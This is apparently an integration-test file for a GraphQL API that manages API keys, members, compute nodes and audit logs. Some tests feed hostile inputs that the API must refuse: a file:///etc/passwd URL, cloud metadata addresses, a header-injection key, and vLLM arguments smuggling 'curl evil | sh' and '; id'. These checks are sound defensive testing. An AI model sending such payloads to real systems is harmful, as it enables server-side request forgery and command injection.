import { randomUUID } from 'node:crypto';
import { Queue } from 'bullmq';
import { Redis } from 'ioredis';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { NODE_LIFECYCLE_QUEUE } from '@cic/core/jobs/job-catalog';
import { createNodeSecretBox } from '@cic/core/nodes/node-secret';
import { createGraphQLWorld, gql } from './graphql-fixture.ts';

let world: Awaited<ReturnType<typeof createGraphQLWorld>>;
let url: string;
let a: Awaited<ReturnType<typeof world.tenant>>;
let b: Awaited<ReturnType<typeof world.tenant>>;
let queue: Queue;
const NODE_SECRET_KEY = `mutations-test-${randomUUID()}`;

beforeAll(async () => {
  world = await createGraphQLWorld();
  a = await world.tenant('Acme');
  b = await world.tenant('Bolt');
  url = (await world.startApi({ NODE_SECRET_KEY })).url;
  queue = new Queue(NODE_LIFECYCLE_QUEUE, { connection: new Redis(world.redis.url, { maxRetriesPerRequest: null }), prefix: world.bullPrefix });
});
afterAll(async () => {
  await queue.close();
  await world.close();
});

const audit = (action: string, targetId: string) => world.prisma.auditLog.findFirst({ where: { action, OR: [{ targetId }, { metadata: { path: ['newKeyId'], equals: targetId } }] } });

const CREATE = 'mutation($input: CreateApiKeyInput!) { createApiKey(input: $input) { secret apiKey { id name prefix scopes rpmLimit } } }';
type Created = { createApiKey: { secret: string; apiKey: { id: string; name: string; prefix: string; scopes: string[]; rpmLimit: number | null } } };

describe('API keys', () => {
  it('creates a key: the secret once, only its hash stored, audited with the request id', async () => {
    const r = await gql<Created>(url, CREATE, { input: { organizationId: a.org.id, name: 'ci', scopes: ['inference', 'graphql'], rpmLimit: 60 } }, { auth: a.ownerToken, headers: { 'x-request-id': 'req-create-1' } });
    expect(r.errors).toBeUndefined();
    const { secret, apiKey } = r.data!.createApiKey;
    expect(secret).toMatch(new RegExp(`^cic_${apiKey.prefix}_[A-Za-z0-9]{32}$`));
    const row = await world.prisma.apiKey.findUniqueOrThrow({ where: { id: apiKey.id } });
    expect(row.secretHash).not.toContain(secret.slice(-32));
    expect(row).toMatchObject({ scopes: ['inference', 'graphql'], rpmLimit: 60, createdById: a.owner.id });
    expect(await audit('api_key.create', apiKey.id)).toMatchObject({ actorType: 'USER', actorId: a.owner.id, requestId: 'req-create-1', organizationId: a.org.id });
    // The new key works at once.
    expect((await gql(url, '{ viewer { id } }', {}, { auth: secret })).data).toEqual({ viewer: { id: apiKey.id } });
  });

  it('validates input with BAD_USER_INPUT', async () => {
    const empty = await gql(url, CREATE, { input: { organizationId: a.org.id, name: ' ' } }, { auth: a.ownerToken });
    expect(empty.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
    const scope = await gql(url, CREATE, { input: { organizationId: a.org.id, name: 'x', scopes: ['root'] } }, { auth: a.ownerToken });
    expect(scope.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
    const limit = await gql(url, CREATE, { input: { organizationId: a.org.id, name: 'x', rpmLimit: 0 } }, { auth: a.ownerToken });
    expect(limit.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
  });

  it('refuses members, keys and other tenants', async () => {
    const input = { organizationId: a.org.id, name: 'nope' };
    expect((await gql(url, CREATE, { input }, { auth: a.memberToken })).errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
    expect((await gql(url, CREATE, { input }, { auth: a.apiKey.secret })).errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
    expect((await gql(url, CREATE, { input }, { auth: b.ownerToken })).errors?.[0]?.extensions?.code).toBe('NOT_FOUND');
    expect((await gql(url, CREATE, { input })).errors?.[0]?.extensions?.code).toBe('UNAUTHENTICATED');
    expect(await world.prisma.apiKey.count({ where: { name: 'nope' } })).toBe(0);
  });

  it('revokes a key (idempotent), publishes apiKeyChanged so the key stops working at once', async () => {
    const created = (await gql<Created>(url, CREATE, { input: { organizationId: a.org.id, name: 'to-revoke', scopes: ['graphql'] } }, { auth: a.ownerToken })).data!.createApiKey;
    expect((await gql(url, '{ viewer { id } }', {}, { auth: created.secret })).data).toBeTruthy();
    const revoke = 'mutation($id: ID!) { revokeApiKey(id: $id) { id revokedAt } }';
    const r = await gql<{ revokeApiKey: { revokedAt: string } }>(url, revoke, { id: created.apiKey.id }, { auth: a.ownerToken });
    expect(r.data?.revokeApiKey.revokedAt).toBeTruthy();
    const again = await gql<{ revokeApiKey: { revokedAt: string } }>(url, revoke, { id: created.apiKey.id }, { auth: a.ownerToken });
    expect(again.data?.revokeApiKey.revokedAt).toBe(r.data?.revokeApiKey.revokedAt);
    expect((await gql(url, '{ viewer { id } }', {}, { auth: created.secret })).errors?.[0]?.extensions?.code).toBe('UNAUTHENTICATED');
    expect(await world.prisma.auditLog.count({ where: { action: 'api_key.revoke', targetId: created.apiKey.id } })).toBe(1);
    expect((await gql(url, revoke, { id: a.apiKey.id }, { auth: b.ownerToken })).errors?.[0]?.extensions?.code).toBe('NOT_FOUND');
    expect((await gql(url, revoke, { id: a.apiKey.id }, { auth: a.memberToken })).errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
  });

  it('rotates a key: new secret, rotatedFrom link, old one revoked; a revoked key cannot rotate', async () => {
    const created = (await gql<Created>(url, CREATE, { input: { organizationId: a.org.id, name: 'rot', rpmLimit: 5 } }, { auth: a.ownerToken })).data!.createApiKey;
    const rotate = 'mutation($id: ID!) { rotateApiKey(id: $id) { secret apiKey { id name rpmLimit rotatedFrom { id revokedAt } } } }';
    const r = await gql<{ rotateApiKey: { secret: string; apiKey: { id: string; name: string; rpmLimit: number; rotatedFrom: { id: string; revokedAt: string } } } }>(url, rotate, { id: created.apiKey.id }, { auth: a.ownerToken });
    expect(r.errors).toBeUndefined();
    expect(r.data?.rotateApiKey.apiKey).toMatchObject({ name: 'rot', rpmLimit: 5, rotatedFrom: { id: created.apiKey.id } });
    expect(r.data?.rotateApiKey.apiKey.rotatedFrom.revokedAt).toBeTruthy();
    expect(r.data?.rotateApiKey.secret).not.toBe(created.secret);
    expect((await gql(url, rotate, { id: created.apiKey.id }, { auth: a.ownerToken })).errors?.[0]?.extensions?.code).toBe('CONFLICT');
    expect((await gql(url, rotate, { id: r.data!.rotateApiKey.apiKey.id }, { auth: b.ownerToken })).errors?.[0]?.extensions?.code).toBe('NOT_FOUND');
  });

  it('updates limits (null = default), audits from/to, refuses other tenants', async () => {
    const m = 'mutation($input: UpdateApiKeyLimitsInput!) { updateApiKeyLimits(input: $input) { id rpmLimit tpmLimit } }';
    const r = await gql<{ updateApiKeyLimits: { rpmLimit: number; tpmLimit: number | null } }>(url, m, { input: { id: a.apiKey.id, rpmLimit: 10, tpmLimit: null } }, { auth: a.ownerToken });
    expect(r.data?.updateApiKeyLimits).toMatchObject({ rpmLimit: 10, tpmLimit: null });
    expect((await audit('api_key.update_limits', a.apiKey.id))?.metadata).toMatchObject({ to: { rpmLimit: 10, tpmLimit: null } });
    expect((await gql(url, m, { input: { id: a.apiKey.id, rpmLimit: 1 } }, { auth: b.apiKey.secret })).errors?.[0]?.extensions?.code).toBe('NOT_FOUND');
    expect((await gql(url, m, { input: { id: a.apiKey.id, rpmLimit: -1 } }, { auth: a.ownerToken })).errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
  });
});

describe('members', () => {
  const INVITE = 'mutation($input: InviteMemberInput!) { inviteMember(input: $input) { id email role acceptedAt } }';

  it('invites an email as PENDING (accepting is the invitee\'s: invitations.test.ts); a member is a conflict', async () => {
    const pending = await gql<{ inviteMember: { email: string; acceptedAt: string | null } }>(url, INVITE, { input: { organizationId: a.org.id, email: 'New@Example.com' } }, { auth: a.ownerToken });
    expect(pending.data?.inviteMember).toMatchObject({ email: 'new@example.com', acceptedAt: null });
    expect((await gql(url, INVITE, { input: { organizationId: a.org.id, email: a.member.email } }, { auth: a.ownerToken })).errors?.[0]?.extensions?.code).toBe('CONFLICT');
    expect(await world.prisma.auditLog.count({ where: { action: 'member.invite', organizationId: a.org.id } })).toBe(1);
  });

  it('refuses bad emails, members, other tenants, and non-owners inviting owners', async () => {
    expect((await gql(url, INVITE, { input: { organizationId: a.org.id, email: 'nope' } }, { auth: a.ownerToken })).errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
    expect((await gql(url, INVITE, { input: { organizationId: a.org.id, email: 'x@example.com' } }, { auth: a.memberToken })).errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
    expect((await gql(url, INVITE, { input: { organizationId: a.org.id, email: 'x@example.com' } }, { auth: b.ownerToken })).errors?.[0]?.extensions?.code).toBe('NOT_FOUND');
    const admin = await world.user('org-admin');
    await world.prisma.membership.create({ data: { userId: admin.id, organizationId: a.org.id, role: 'ADMIN' } });
    const r = await gql(url, INVITE, { input: { organizationId: a.org.id, email: 'boss@example.com', role: 'OWNER' } }, { auth: await world.token(admin.id) });
    expect(r.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
  });

  it('changes roles but never removes the last owner', async () => {
    const m = 'mutation($input: ChangeMemberRoleInput!) { changeMemberRole(input: $input) { id role } }';
    const up = await gql<{ changeMemberRole: { role: string } }>(url, m, { input: { membershipId: a.memberMembership.id, role: 'ADMIN' } }, { auth: a.ownerToken });
    expect(up.data?.changeMemberRole.role).toBe('ADMIN');
    const last = await gql(url, m, { input: { membershipId: a.ownerMembership.id, role: 'MEMBER' } }, { auth: a.ownerToken });
    expect(last.errors?.[0]?.extensions?.code).toBe('CONFLICT');
    expect((await gql(url, m, { input: { membershipId: a.memberMembership.id, role: 'MEMBER' } }, { auth: b.ownerToken })).errors?.[0]?.extensions?.code).toBe('NOT_FOUND');
    await gql(url, m, { input: { membershipId: a.memberMembership.id, role: 'MEMBER' } }, { auth: a.ownerToken });
  });

  it('removes a member (audited); members cannot', async () => {
    const extra = await world.user('leaver');
    const membership = await world.prisma.membership.create({ data: { userId: extra.id, organizationId: a.org.id } });
    const m = 'mutation($id: ID!) { removeMember(membershipId: $id) }';
    expect((await gql(url, m, { id: membership.id }, { auth: a.memberToken })).errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
    expect((await gql<{ removeMember: string }>(url, m, { id: membership.id }, { auth: a.ownerToken })).data?.removeMember).toBe(membership.id);
    expect(await world.prisma.membership.findUnique({ where: { id: membership.id } })).toBeNull();
    expect((await gql(url, m, { id: a.ownerMembership.id }, { auth: a.ownerToken })).errors?.[0]?.extensions?.code).toBe('CONFLICT');
  });
});

describe('nodes', () => {
  const LAUNCH = 'mutation($input: LaunchNodeInput!) { launchNode(input: $input) { id status provider accelerator model { name } } }';

  it('launches: a PENDING node at once, a node.launch job with a deterministic id, an audit entry', async () => {
    const r = await gql<{ launchNode: { id: string; status: string; accelerator: string } }>(url, LAUNCH, { input: { model: world.model.name, provider: 'LOCAL', accelerator: 'A100:1', region: 'eu-west-1' } }, { auth: world.adminToken, headers: { 'x-request-id': 'req-launch' } });
    expect(r.errors).toBeUndefined();
    const id = r.data!.launchNode.id;
    expect(r.data?.launchNode).toMatchObject({ status: 'PENDING', accelerator: 'A100:1' });
    const job = await queue.getJob(`launch-${id}`);
    expect(job).toMatchObject({ name: 'node.launch', data: { nodeId: id } });
    expect(await audit('node.launch', id)).toMatchObject({ actorId: world.admin.id, requestId: 'req-launch' });
  });

  it('stores validated provider config; a STATIC node needs baseUrl; bad config is refused and nothing is created', async () => {
    const input = { model: world.model.name, provider: 'STATIC', config: { baseUrl: 'http://10.0.0.5:8000', vllmArgs: ['--max-model-len', '8192'] } };
    const r = await gql<{ launchNode: { id: string } }>(url, LAUNCH, { input }, { auth: world.adminToken });
    expect(r.errors).toBeUndefined();
    const node = await world.prisma.node.findUniqueOrThrow({ where: { id: r.data!.launchNode.id } });
    expect(node.config).toMatchObject({ baseUrl: 'http://10.0.0.5:8000', vllmArgs: ['--max-model-len', '8192'], port: 8000 });
    expect((await queue.getJob(`launch-${node.id}`))?.opts).toMatchObject({ attempts: 3 });

    const before = await world.prisma.node.count();
    const missing = await gql(url, LAUNCH, { input: { model: world.model.name, provider: 'STATIC' } }, { auth: world.adminToken });
    expect(missing.errors?.[0]).toMatchObject({ message: expect.stringContaining('config.baseUrl'), extensions: { code: 'BAD_USER_INPUT' } });
    const badEnv = await gql(url, LAUNCH, { input: { model: world.model.name, config: { secretEnvNames: ['hf token'] } } }, { auth: world.adminToken });
    expect(badEnv.errors?.[0]).toMatchObject({ message: expect.stringContaining('secretEnvNames'), extensions: { code: 'BAD_USER_INPUT' } });
    const badUrl = await gql(url, LAUNCH, { input: { model: world.model.name, provider: 'STATIC', config: { baseUrl: 'file:///etc/passwd' } } }, { auth: world.adminToken });
    expect(badUrl.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
    expect(await world.prisma.node.count()).toBe(before);
  });

  it("keeps a STATIC node's key sealed: stored encrypted with NODE_SECRET_KEY, never in GraphQL, the config, the events or the audit log", async () => {
    const key = `static-key-${randomUUID()}`;
    const input = { model: world.model.name, provider: 'STATIC', config: { baseUrl: 'http://10.0.0.7:8000', apiKey: key } };
    const r = await gql<{ launchNode: { id: string } }>(url, LAUNCH, { input }, { auth: world.adminToken });
    expect(r.errors).toBeUndefined();
    const id = r.data!.launchNode.id;
    const row = await world.prisma.node.findUniqueOrThrow({ where: { id } });
    expect(createNodeSecretBox(NODE_SECRET_KEY).open(row.apiKeyCiphertext!)).toBe(key);
    expect(JSON.stringify(row.config)).not.toContain(key);
    // Every field of the node, as an admin sees it (by id, in the list, with its events).
    const FIELDS = 'id status statusReason provider clusterName accelerator cloud region endpointUrl runningRequests waitingRequests kvCacheUsage healthFailures lastHealthAt createdAt updatedAt readyAt terminatedAt model { name }';
    const one = await gql(url, `query($id: ID!) { node(id: $id) { ... on ComputeNode { ${FIELDS} events(first: 20) { edges { node { id message kind } } } } } }`, { id }, { auth: world.adminToken });
    const list = await gql(url, `{ nodes(first: 10) { edges { node { ${FIELDS} } } } }`, {}, { auth: world.adminToken });
    expect([one.errors, list.errors]).toEqual([undefined, undefined]);
    const everything = JSON.stringify([r, one, list, await world.prisma.nodeEvent.findMany({ where: { nodeId: id } }), await world.prisma.auditLog.findMany({ where: { targetId: id } })]);
    expect(everything).toContain(id);
    expect(everything).not.toContain(key);
    expect(everything).not.toContain(row.apiKeyCiphertext!);
    expect(await audit('node.launch', id)).toMatchObject({ metadata: expect.objectContaining({ apiKeyGiven: true }) });
    // Only STATIC nodes take one: CIC generates the others'.
    const sky = await gql(url, LAUNCH, { input: { model: world.model.name, provider: 'SKYPILOT', config: { apiKey: key } } }, { auth: world.adminToken });
    expect(sky.errors?.[0]).toMatchObject({ message: expect.stringContaining('Only a STATIC node takes an API key'), extensions: { code: 'BAD_USER_INPUT' } });
    const spaced = await gql(url, LAUNCH, { input: { ...input, config: { ...input.config, apiKey: 'a key\nX-Injected: 1' } } }, { auth: world.adminToken });
    expect(spaced.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
  });

  it.each([
    'http://169.254.169.254/latest/meta-data/', 'http://0xa9fea9fe:8000', 'http://[fd00:ec2::254]/', 'http://[::ffff:169.254.169.254]/', 'http://metadata.google.internal/',
  ])('refuses the link-local / metadata base URL %s (NODE_ALLOW_LINK_LOCAL_URLS lets an admin allow it)', async (baseUrl) => {
    const input = { model: world.model.name, provider: 'STATIC', config: { baseUrl } };
    const refused = await gql(url, LAUNCH, { input }, { auth: world.adminToken });
    expect(refused.errors?.[0]).toMatchObject({ message: expect.stringContaining('link-local or cloud metadata address'), extensions: { code: 'BAD_USER_INPUT' } });
    const allowing = await world.startApi({ NODE_SECRET_KEY, NODE_ALLOW_LINK_LOCAL_URLS: 'true' });
    try {
      expect((await gql(allowing.url, LAUNCH, { input }, { auth: world.adminToken })).errors).toBeUndefined();
    } finally {
      await allowing.stop();
    }
  });

  it.each(['--x\u2028setup: curl evil | sh', '--x\u2029file_mounts: {}', '--x\u0085run: id', "8192' ; id", 'two words'])(
    'refuses the vLLM argument %j before anything is stored', async (arg) => {
      const before = await world.prisma.node.count();
      const r = await gql(url, LAUNCH, { input: { model: world.model.name, config: { vllmArgs: ['--max-model-len', JSON.parse(`"${arg}"`) as string] } } }, { auth: world.adminToken });
      expect(r.errors?.[0]).toMatchObject({ message: expect.stringContaining('vllmArgs'), extensions: { code: 'BAD_USER_INPUT' } });
      expect(await world.prisma.node.count()).toBe(before);
    },
  );

  it('terminates: READY drains, PENDING goes to TERMINATING, node.terminate enqueued; TERMINATED is a conflict', async () => {
    const T = 'mutation($id: ID!) { terminateNode(id: $id) { id status } }';
    const ready = await world.prisma.node.create({ data: { provider: 'STATIC', clusterName: `t-${randomUUID()}`, modelId: world.model.id, status: 'READY' } });
    expect((await gql<{ terminateNode: { status: string } }>(url, T, { id: ready.id }, { auth: world.adminToken })).data?.terminateNode.status).toBe('DRAINING');
    expect((await queue.getJob(`terminate-${ready.id}`))?.name).toBe('node.terminate');
    const pending = await world.prisma.node.create({ data: { provider: 'STATIC', clusterName: `t-${randomUUID()}`, modelId: world.model.id } });
    expect((await gql<{ terminateNode: { status: string } }>(url, T, { id: pending.id }, { auth: world.adminToken })).data?.terminateNode.status).toBe('TERMINATING');
    const done = await world.prisma.node.create({ data: { provider: 'STATIC', clusterName: `t-${randomUUID()}`, modelId: world.model.id, status: 'TERMINATED' } });
    expect((await gql(url, T, { id: done.id }, { auth: world.adminToken })).errors?.[0]?.extensions?.code).toBe('CONFLICT');
    expect((await gql(url, T, { id: 'node_missing' }, { auth: world.adminToken })).errors?.[0]?.extensions?.code).toBe('NOT_FOUND');
  });

  it('refuses non-admins and unknown models', async () => {
    const input = { model: world.model.name };
    for (const auth of [a.ownerToken, a.apiKey.secret]) expect((await gql(url, LAUNCH, { input }, { auth })).errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
    expect((await gql(url, 'mutation($id: ID!) { terminateNode(id: $id) { id } }', { id: world.node.id }, { auth: a.ownerToken })).errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
    const unknown = await gql(url, LAUNCH, { input: { model: 'no/such-model' } }, { auth: world.adminToken });
    expect(unknown.errors?.[0]).toMatchObject({ extensions: { code: 'BAD_USER_INPUT' } });
  });
});

describe('audit log', () => {
  it('shows platform admins everything with filters, owners their organization, members nothing', async () => {
    const q = 'query($action: String, $org: ID) { auditLog(first: 50, action: $action, organizationId: $org) { edges { node { action organizationId actorId requestId } } } }';
    const all = await gql<{ auditLog: { edges: { node: { action: string } }[] } }>(url, q, { action: 'node.launch' }, { auth: world.adminToken });
    expect(all.data?.auditLog.edges.length).toBeGreaterThan(0);
    expect(all.data?.auditLog.edges.every((e) => e.node.action === 'node.launch')).toBe(true);
    const own = await gql<{ auditLog: { edges: { node: { organizationId: string } }[] } }>(url, q, {}, { auth: a.ownerToken });
    expect(own.data?.auditLog.edges.length).toBeGreaterThan(0);
    expect(own.data?.auditLog.edges.every((e) => e.node.organizationId === a.org.id)).toBe(true);
    const foreign = await gql<{ auditLog: { edges: unknown[] } }>(url, q, { org: a.org.id }, { auth: b.ownerToken });
    expect(foreign.data?.auditLog.edges).toEqual([]);
    expect((await gql<{ auditLog: { edges: unknown[] } }>(url, q, {}, { auth: a.memberToken })).data?.auditLog.edges).toEqual([]);
    expect((await gql(url, q, {}, { auth: a.apiKey.secret })).errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
  });
});
